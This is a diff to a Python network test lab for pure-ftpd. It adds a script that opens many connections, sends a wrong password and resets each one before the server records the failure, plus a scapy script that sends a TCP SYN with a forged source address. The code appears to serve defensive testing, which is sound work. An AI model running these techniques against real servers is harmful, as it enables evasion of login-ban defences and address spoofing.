@@ -36,7 +36,7 @@ from typing import Literal
 
 import dns.reversename
 
-from labkit import DaemonLab, Timestamps, process_alive
+from labkit import DaemonLab, Timestamps, poll_until, process_alive
 from netns import Host
 
 __all__ = [
@@ -135,6 +135,59 @@ except (dns.resolver.NXDOMAIN, dns.resolver.NoAnswer):
     print("[]")
 """
 
+# The attack that beat "who is connected now": COUNT connections at once, each idles IDLE
+# seconds after the banner, sends USER and PASS, and resets the connection (SO_LINGER 0)
+# a second later: pure-ftpd has read the password and sleeps (at least 3 s) before it
+# answers and writes the failure, when the client is gone. (A reset before pure-ftpd read
+# the command would discard it unread.) Prints how many passwords were sent.
+_HOLD_AND_RESET_SCRIPT = """
+import json, socket, struct, sys, threading, time
+addr, port, count, idle, user, password = sys.argv[1:7]
+port, count, idle = int(port), int(count), float(idle)
+sent = []
+
+def reply(sock):
+    data = b""
+    while not data.endswith(b"\\r\\n"):
+        chunk = sock.recv(4096)
+        if not chunk:
+            raise OSError("closed")
+        data += chunk
+    return data
+
+def attempt():
+    sock = socket.create_connection((addr, port), timeout=idle + 30)
+    try:
+        reply(sock)
+        time.sleep(idle)
+        sock.sendall(f"USER {user}\\r\\n".encode())
+        reply(sock)
+        sock.sendall(f"PASS {password}\\r\\n".encode())
+        time.sleep(1.0)
+        sent.append(1)
+    finally:
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+        sock.close()
+
+threads = [threading.Thread(target=attempt) for _ in range(count)]
+for thread in threads:
+    thread.start()
+for thread in threads:
+    thread.join()
+print(json.dumps({"sent": len(sent)}), flush=True)
+"""
+
+# One TCP SYN with a forged source address (scapy, raw socket): how an attacker makes a
+# host it does not own look like a client. It never completes a handshake.
+_FORGED_SYN_SCRIPT = """
+import random, sys
+from scapy.all import IP, IPv6, TCP, send
+source, target, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
+layer = IPv6 if ":" in target else IP
+syn = layer(src=source, dst=target) / TCP(sport=random.randint(20000, 60000), dport=port, flags="S")
+send(syn, verbose=0)
+"""
+
 # What pure-ftpd itself does with a client address: the libc resolver, name required.
 _LIBC_NAME_SCRIPT = """
 import socket, sys
@@ -199,8 +252,10 @@ class FtpLab(DaemonLab):
         timestamps: Timestamps = "traditional",
         facility: Literal["ftp", "auth"] = "ftp",
         log_pid: bool = True,
+        ttl: int = 600,
     ) -> None:
         super().__init__(workdir, clients, timestamps)
+        self.ttl = ttl
         self.ptr: dict[str, str] = dict(ptr or {})
         self.a: dict[str, str | Sequence[str]] = dict(a or {})
         self.facility = facility
@@ -248,6 +303,8 @@ class FtpLab(DaemonLab):
             f"--log-facility={self.workdir / 'dnsmasq.log'}",
             "--log-queries",
             "--cache-size=0",
+            # Real zones give their records a TTL; dnsmasq's default for its own is 0.
+            f"--local-ttl={self.ttl}",
         ]  # fmt: skip
         argv += [f"--local=/{zone}/" for zone in _LOCAL_ZONES]
         for ip, name in self.ptr.items():
@@ -436,6 +493,47 @@ class FtpLab(DaemonLab):
             timeout=timeout,
         )
         return result.outcomes == ["accepted"]
+
+    def ftp_hold_and_reset(
+        self, from_host: Host | str, count: int, idle: float, address: str | None = None
+    ) -> int:
+        """``count`` connections that idle ``idle`` seconds, send a wrong password and reset
+        before the verdict (see _HOLD_AND_RESET_SCRIPT); returns how many were sent."""
+        if not 1 <= count <= MAX_ATTEMPTS or not 0 <= idle <= MAX_HOLD:
+            raise ValueError(f"count must be 1..{MAX_ATTEMPTS}, idle 0..{MAX_HOLD:g}")
+        host = self._host(from_host)
+        address = address or self.lab.server.ipv4
+        password = "wrong-" + secrets.token_urlsafe(9)
+        argv = [sys.executable, "-c", _HOLD_AND_RESET_SCRIPT, address, str(FTP_PORT),
+                str(count), str(idle), self.user, password]  # fmt: skip
+        result = host.run(argv, timeout=idle + 90)
+        self._log_client(f"{host.name} -> [{address}] hold {idle:g}s and reset x{count}")
+        return int(json.loads(result.stdout)["sent"])
+
+    def forge_syn(self, from_host: Host | str, source: str, address: str | None = None) -> None:
+        """One SYN to the FTP port from ``from_host`` with the forged ``source`` address."""
+        host = self._host(from_host)
+        address = address or self.lab.server.ipv4
+        argv = [sys.executable, "-c", _FORGED_SYN_SCRIPT, source, address, str(FTP_PORT)]
+        host.run(argv, timeout=60)
+        self._log_client(f"{host.name} -> [{address}] forged SYN from {source}")
+
+    def set_online(self, host: Host | str, online: bool, address: str | None = None) -> None:
+        """Bring a client's link up or down (down: it answers nothing, not even ARP/ND).
+        Up returns once the client reaches the server's ``address`` again (at most 15 s:
+        the server's neighbour entry for it may have failed while it was away)."""
+        target = self._host(host)
+        if not online:  # Linux drops a downed link's IPv6 addresses unless told to keep them
+            target.run(["sysctl", "-q", "-w", "net.ipv6.conf.eth0.keep_addr_on_down=1"])
+        target.run(["ip", "link", "set", "eth0", "up" if online else "down"])
+        if online:
+            server = address or self.lab.server.ipv4
+            poll_until(
+                lambda: target.tcp_connect(server, FTP_PORT, timeout=1.0),
+                15,
+                f"{target.name} to reach {server} again",
+                self.diagnostics,
+            )
 
     def ftp_fail_logins(
         self,
